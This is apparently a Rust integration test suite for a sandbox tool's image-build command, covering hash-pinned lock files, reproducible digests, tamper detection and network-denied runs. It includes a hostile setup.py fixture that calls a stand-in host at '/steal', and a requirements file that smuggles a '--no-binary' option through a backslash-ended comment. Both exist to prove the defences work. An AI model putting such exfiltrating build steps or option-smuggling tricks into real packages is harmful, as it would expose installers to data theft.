//! `agentjail image build` (docs/images.md, "Building an image"), against a local package
//! index served inside the test's own network namespace (only loopback in it): a lock file
//! without hashes and a hash mismatch are refused with nothing stored; a package's build step
//! cannot reach any host but the index; two builds give one digest; the built image carries
//! its packages into runs with `network: deny`, and a tampered file refuses the run; pandas
//! (wheels fetched by `.ci/run` into `$AGENTJAIL_TEST_WHEELS`) imports in a run without
//! network on an image built on a Debian base made by mmdebstrap (`.ci/run` makes it), not on
//! the host image, and the MCP description of each task says so.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use common::netns::{dns, in_netns};
use common::pyindex::{Index, pin, pip_base, sdist, wheel};
use common::serve::{
    Api, Serve, actor, mcp_descriptions, python_code_task, runtime, runtime_packages, write_config,
};
use common::{Out, agentjail};

const ALICE: &str = "alice-token-image-build";

/// The base's root file system, made once per test process.
fn base_root() -> &'static PathBuf {
    static B: OnceLock<PathBuf> = OnceLock::new();
    B.get_or_init(|| pip_base(&Path::new(env!("CARGO_TARGET_TMPDIR")).join("image-build-base")))
}

/// A store under `d` holding the base; returns (store, base digest).
fn store_with_base(d: &Path) -> (PathBuf, String) {
    store_with(d, base_root())
}

/// A store under `d` holding the image imported from `src`; returns (store, its digest).
fn store_with(d: &Path, src: &Path) -> (PathBuf, String) {
    let store = d.join("images");
    let o = agentjail(&[
        "image".as_ref(),
        "import".as_ref(),
        src.as_os_str(),
        "--store".as_ref(),
        store.as_os_str(),
    ]);
    assert_eq!(o.code, 0, "{}", o.dump());
    (store, o.stdout.trim().to_owned())
}

fn stored(store: &Path) -> usize {
    std::fs::read_dir(store.join("images"))
        .map(|r| r.count())
        .unwrap_or(0)
}

/// `image build` with the index at `index.test:PORT` (the test's DNS says 127.0.0.1).
fn build(store: &Path, base: &str, lock: &Path, port: u16, dns_port: u16, extra: &[&str]) -> Out {
    let url = format!("http://index.test:{port}/simple/");
    let dns = format!("127.0.0.1:{dns_port}");
    let mut args: Vec<&std::ffi::OsStr> = vec![
        "image".as_ref(),
        "build".as_ref(),
        "--base".as_ref(),
        base.as_ref(),
        "--requirements".as_ref(),
        lock.as_os_str(),
        "--index-url".as_ref(),
        url.as_ref(),
        "--allow-private".as_ref(),
        "127.0.0.1/32".as_ref(),
        "--egress-dns".as_ref(),
        dns.as_ref(),
        "--store".as_ref(),
        store.as_os_str(),
        "--timeout".as_ref(),
        "300".as_ref(),
    ];
    args.extend(extra.iter().map(|s| std::ffi::OsStr::new(*s)));
    agentjail(&args)
}

/// `image rm DIGEST`, then the same build again: it must give `digest` once more.
fn rebuilt_alike(store: &Path, base: &str, lock: &Path, digest: &str, port: u16, dns_port: u16) {
    let rm = agentjail(&[
        "image".as_ref(),
        "rm".as_ref(),
        digest.as_ref(),
        "--store".as_ref(),
        store.as_os_str(),
    ]);
    assert_eq!(rm.code, 0, "{}", rm.dump());
    let again = build(store, base, lock, port, dns_port, &[]);
    assert_eq!(again.code, 0, "{}", again.dump());
    assert_eq!(again.stdout.trim(), digest, "a reproducible build");
}

fn names() -> HashMap<&'static str, Vec<Ipv4Addr>> {
    HashMap::from([
        ("index.test", vec![Ipv4Addr::LOCALHOST]),
        ("other.test", vec![Ipv4Addr::LOCALHOST]),
    ])
}

/// Runs `python3 -c CODE` on the stored image `digest` with `network: deny`.
fn run_on(store: &Path, digest: Option<&str>, d: &Path, code: &str) -> Out {
    let mut m = serde_json::json!({
        "command": ["/usr/bin/python3", "-c", code],
        "limits": {"memory_mb": 1024, "seconds": 60},
    });
    if let Some(dg) = digest {
        m["image"] = serde_json::json!(dg);
    }
    let path = d.join(format!(
        "m-{}.json",
        digest.map(|x| &x[7..19]).unwrap_or("host")
    ));
    std::fs::write(&path, m.to_string()).unwrap();
    agentjail(&[
        "run".as_ref(),
        "--manifest".as_ref(),
        path.as_os_str(),
        "--image-store".as_ref(),
        store.as_os_str(),
    ])
}

/// A store with the base, a one-module wheel `demo_pkg` 1.0 served by a local index, and a
/// DNS server naming `index.test` and `other.test` (call inside the test's namespace).
struct Demo {
    d: tempfile::TempDir,
    store: PathBuf,
    base: String,
    wheel: PathBuf,
    index: Index,
    dns_port: u16,
}

fn demo() -> Demo {
    let d = common::tmp();
    let (store, base) = store_with_base(d.path());
    let wheel = wheel(d.path(), "demo_pkg", "1.0", "VALUE = 'built'\n");
    let index = Index::serve(&d.path().join("index"), std::slice::from_ref(&wheel));
    let (dns_port, _) = dns(names());
    Demo {
        d,
        store,
        base,
        wheel,
        index,
        dns_port,
    }
}

#[test]
fn a_lock_file_without_hashes_or_with_a_wrong_one_is_refused_and_nothing_is_stored() {
    in_netns(&[], || {
        let Demo {
            d,
            store,
            base,
            index,
            dns_port,
            ..
        } = demo();

        // No hash: refused before any sandbox starts; the index is never asked.
        let lock = d.path().join("nohash.txt");
        std::fs::write(&lock, "demo_pkg==1.0\n").unwrap();
        let o = build(&store, &base, &lock, index.port, dns_port, &[]);
        assert_eq!(o.code, 1, "{}", o.dump());
        assert!(
            o.stderr.contains("`demo_pkg==1.0` has no --hash"),
            "{}",
            o.dump()
        );
        assert_eq!(index.requests(), 0);

        // A hash that does not match the file the index serves: pip refuses the download.
        let lock = d.path().join("mismatch.txt");
        std::fs::write(
            &lock,
            format!("demo_pkg==1.0 --hash=sha256:{}\n", "0".repeat(64)),
        )
        .unwrap();
        let o = build(&store, &base, &lock, index.port, dns_port, &[]);
        assert_eq!(o.code, 1, "{}", o.dump());
        assert!(
            o.stderr.contains("DO NOT MATCH THE HASHES"),
            "pip's refusal is shown: {}",
            o.dump()
        );
        assert!(index.requests() >= 1, "the index was asked");
        assert_eq!(stored(&store), 1, "only the base is stored");
    })
    .expect("network namespace");
}

#[test]
fn two_builds_give_one_digest_and_the_image_carries_the_package_until_tampered() {
    in_netns(&[], || {
        let Demo {
            d,
            store,
            base,
            wheel: w,
            index,
            dns_port,
        } = demo();
        let lock = d.path().join("requirements.txt");
        std::fs::write(&lock, pin("demo_pkg", "1.0", &w)).unwrap();

        let first = build(&store, &base, &lock, index.port, dns_port, &[]);
        assert_eq!(first.code, 0, "{}", first.dump());
        let digest = first.stdout.trim().to_owned();
        assert!(
            digest.starts_with("sha256:") && digest != base,
            "{}",
            first.dump()
        );

        // The record names the base; the SBOM lists the package.
        let show = agentjail(&[
            "image".as_ref(),
            "show".as_ref(),
            digest.as_ref(),
            "--json".as_ref(),
            "--store".as_ref(),
            store.as_os_str(),
        ]);
        assert_eq!(show.code, 0, "{}", show.dump());
        let v: serde_json::Value = serde_json::from_str(&show.stdout).unwrap();
        assert_eq!(v["kind"], "build");
        assert_eq!(v["base"], base.as_str());
        assert!(
            v["packages"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["name"] == "demo_pkg" && p["version"] == "1.0"),
            "{v}"
        );

        // Removed and built again from scratch: the same digest.
        rebuilt_alike(&store, &base, &lock, &digest, index.port, dns_port);

        // A run on the image, without network, imports the package; on the base it cannot.
        let code = "import demo_pkg; print('VALUE=' + demo_pkg.VALUE)";
        let o = run_on(&store, Some(&digest), d.path(), code);
        assert_eq!(o.code, 0, "{}", o.dump());
        assert!(o.stdout.contains("VALUE=built"), "{}", o.dump());
        let o = run_on(&store, Some(&base), d.path(), code);
        assert_ne!(o.code, 0, "{}", o.dump());
        assert!(
            o.stderr.contains("No module named 'demo_pkg'"),
            "{}",
            o.dump()
        );

        // One changed byte in the stored image refuses the run.
        let hex = &digest["sha256:".len()..];
        let init = store
            .join("images")
            .join(hex)
            .join("rootfs/usr/local/lib/python3.11/dist-packages/demo_pkg/__init__.py");
        std::fs::write(&init, "VALUE = 'tampered'\n").unwrap();
        let o = run_on(&store, Some(&digest), d.path(), code);
        assert_eq!(o.code, 125, "{}", o.dump());
        assert!(!o.stdout.contains("VALUE="), "{}", o.dump());
    })
    .expect("network namespace");
}

/// A source distribution whose `setup.py` tries another host through the sandbox's proxy and
/// says what it got, then fails the build.
const EVIL_SETUP: &str = r#"import sys, urllib.request
try:
    r = urllib.request.urlopen('http://other.test:OTHER/steal', timeout=10).status
except Exception as e:
    r = repr(e)
print('BUILD-STEP-RAN', r, file=sys.stderr)
raise SystemExit(1)
"#;

#[test]
fn a_build_step_cannot_reach_any_host_but_the_index() {
    in_netns(&[], || {
        let d = common::tmp();
        let (store, base) = store_with_base(d.path());
        let other = common::netns::upstream(Ipv4Addr::LOCALHOST, |_| {
            b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nSTOLEN".to_vec()
        });
        let setup = EVIL_SETUP.replace("OTHER", &other.port.to_string());
        let s = sdist(d.path(), "evil_pkg", "1.0", &setup);
        let index = Index::serve(&d.path().join("index"), std::slice::from_ref(&s));
        let (dns_port, _) = dns(names());
        let lock = d.path().join("requirements.txt");
        std::fs::write(&lock, pin("evil_pkg", "1.0", &s)).unwrap();

        // Wheels only (the default): the source distribution is never built.
        let o = build(&store, &base, &lock, index.port, dns_port, &[]);
        assert_eq!(o.code, 1, "{}", o.dump());
        assert!(!o.stderr.contains("BUILD-STEP-RAN"), "{}", o.dump());

        // An option smuggled past the check (a comment ending in a backslash does not continue
        // for pip, which would read `--no-binary` and build the source distribution): the
        // file is refused before any sandbox starts, and pip only ever reads a rebuilt file.
        let smuggled = d.path().join("smuggled.txt");
        std::fs::write(
            &smuggled,
            format!(
                "# generated \\\n--no-binary=:all:\n{}",
                pin("evil_pkg", "1.0", &s)
            ),
        )
        .unwrap();
        let asked = index.requests();
        let o = build(&store, &base, &smuggled, index.port, dns_port, &[]);
        assert_eq!(o.code, 1, "{}", o.dump());
        assert!(o.stderr.contains("`--no-binary=:all:`"), "{}", o.dump());
        assert!(!o.stderr.contains("BUILD-STEP-RAN"), "{}", o.dump());
        assert_eq!(index.requests(), asked, "no sandbox ran");

        // With --allow-source its setup.py runs, and the gateway refuses its connection.
        let o = build(
            &store,
            &base,
            &lock,
            index.port,
            dns_port,
            &["--allow-source"],
        );
        assert_eq!(o.code, 1, "{}", o.dump());
        assert!(
            o.stderr.contains("BUILD-STEP-RAN"),
            "the step ran: {}",
            o.dump()
        );
        assert!(
            o.stderr.contains("refused (network)") && o.stderr.contains("other.test"),
            "the attempt is reported: {}",
            o.dump()
        );
        assert!(!o.stderr.contains("STOLEN"), "{}", o.dump());
        assert_eq!(
            other.connections_once(0),
            0,
            "no connection reached the other host"
        );
        assert_eq!(stored(&store), 1, "only the base is stored");
    })
    .expect("network namespace");
}

/// The Debian 12 root file system with python3 and pip that `.ci/run` makes with mmdebstrap
/// (`ci/release/debian-root.sh --with-pip`), the base docs/images.md starts from.
fn debian_base() -> Option<PathBuf> {
    let p = PathBuf::from(std::env::var_os("AGENTJAIL_TEST_DEBIAN_BASE")?);
    p.is_file().then_some(p)
}

/// The wheels `.ci/run` downloads (pandas and what it needs, for CPython 3.11 on x86_64).
fn test_wheels() -> Option<Vec<PathBuf>> {
    let dir = std::env::var_os("AGENTJAIL_TEST_WHEELS").map(PathBuf::from)?;
    let v: Vec<PathBuf> = std::fs::read_dir(&dir)
        .ok()?
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "whl"))
        .collect();
    v.iter()
        .any(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("pandas-")
        })
        .then_some(v)
}

#[test]
fn pandas_built_on_a_debian_base_imports_without_network_and_the_model_is_told() {
    let Some(wheels) = test_wheels() else {
        common::skip("no pandas wheels in $AGENTJAIL_TEST_WHEELS (.ci/run downloads them)");
        return;
    };
    let Some(debian) = debian_base() else {
        common::skip(
            "no Debian base in $AGENTJAIL_TEST_DEBIAN_BASE (.ci/run makes it: ci/release/debian-root.sh --with-pip)",
        );
        return;
    };
    in_netns(&[], move || {
        let d = common::tmp();
        let (store, base) = store_with(d.path(), &debian);
        let index = Index::serve(&d.path().join("index"), &wheels);
        let (dns_port, _) = dns(names());
        let mut lock = String::new();
        for w in &wheels {
            let f = w.file_name().unwrap().to_string_lossy().into_owned();
            let mut parts = f.split('-');
            let (name, version) = (parts.next().unwrap(), parts.next().unwrap());
            lock.push_str(&pin(name, version, w));
        }
        let lock_path = d.path().join("requirements.txt");
        std::fs::write(&lock_path, &lock).unwrap();
        let o = build(&store, &base, &lock_path, index.port, dns_port, &[]);
        assert_eq!(o.code, 0, "{}", o.dump());
        let digest = o.stdout.trim().to_owned();

        // Built again after `image rm`: the same digest (numpy's and pandas' compiled
        // modules and thousands of files included).
        rebuilt_alike(&store, &base, &lock_path, &digest, index.port, dns_port);

        // A task type on the built image, and the same task on the host image, served.
        let task = |name: &str, image: &str| {
            python_code_task(
                name,
                "Python",
                &format!("allowed_actors = [\"alice\"]\n{image}"),
                60,
            )
        };
        let cfg = write_config(
            d.path(),
            &format!(
                "[server]\nimage_store = {:?}\n[tenants.acme]\n{}{}{}",
                store.to_str().unwrap(),
                actor("alice", "acme", ALICE, false),
                task("py_built", &format!("image = \"{digest}\"")),
                task("py_host", ""),
            ),
        );

        // What the model is told: the task on the built image has pandas, the same task on
        // the host image does not (each runtime line probed in a sandbox on its image).
        let tools = mcp_descriptions(&cfg, &d.path().join("mcp-data"), ALICE);
        let built = runtime_packages(runtime(&tools["py_built"]));
        let host = runtime_packages(runtime(&tools["py_host"]));
        assert!(built.iter().any(|p| p == "pandas"), "{built:?}");
        assert!(!host.iter().any(|p| p == "pandas"), "{host:?}");

        // A run of the task (network: deny, the task's default) imports pandas and uses it;
        // on the host image the same code fails.
        let s = Serve::start(&cfg, &d.path().join("data"), &[]);
        let api = Api::new(&s.base);
        let code = "import json, pandas\njson.dump({'v': pandas.__version__, 's': int(pandas.DataFrame({'a': [1, 2]})['a'].sum())}, open('/output/o.json', 'w'))";
        let run = |task: &str, id: &str| -> serde_json::Value {
            api.run(
                ALICE,
                &serde_json::json!({"task": task, "request_id": id, "inputs": [], "code": code}),
                "?wait=true",
            )
            .json()
            .unwrap()
        };
        let v = run("py_built", "pandas-1");
        assert_eq!(v["status"], "ok", "{v:#}\n{}", s.log());
        assert_eq!(v["artifact"]["json"], serde_json::json!({"v": "2.2.3", "s": 3}), "{v:#}");
        assert_eq!(v["report"]["image"], digest.as_str(), "{v:#}");
        assert!(
            v["report"]["network"].is_null(),
            "no gateway: the network was denied: {v:#}"
        );
        let h = run("py_host", "pandas-2");
        assert_eq!(h["status"], "exit_nonzero", "{h:#}");
    })
    .expect("network namespace");
}
